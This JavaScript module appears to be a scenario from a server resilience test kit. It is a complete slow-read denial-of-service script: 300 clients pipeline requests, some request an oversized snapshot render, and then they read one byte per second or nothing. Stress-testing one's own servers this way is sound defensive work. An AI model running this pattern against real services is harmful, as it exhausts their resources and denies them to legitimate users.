// Asks for pictures and reads them by the byte, or not at all.
import { crowd, pause, push, request } from '../kit.mjs';

export const about = '300 HTTP clients ask for pictures and read a byte a second, or nothing';

export const attack = (target) =>
  crowd(target, 300, async (life) => {
    const socket = await life.open({ reads: false });
    const path = life.id % 10 === 0 ? '/snapshot.png?canvas=load&rect=-4000,-4000,8000,8000' : life.id % 2 ? '/' : '/metrics';
    await push(socket, request(target, path).repeat(life.id % 10 === 0 ? 1 : 30));
    while (!life.clock.isOver() && !socket.destroyed) {
      await pause(1000);
      if (life.id % 2) {
        socket.read(1);
      }
    }
  });
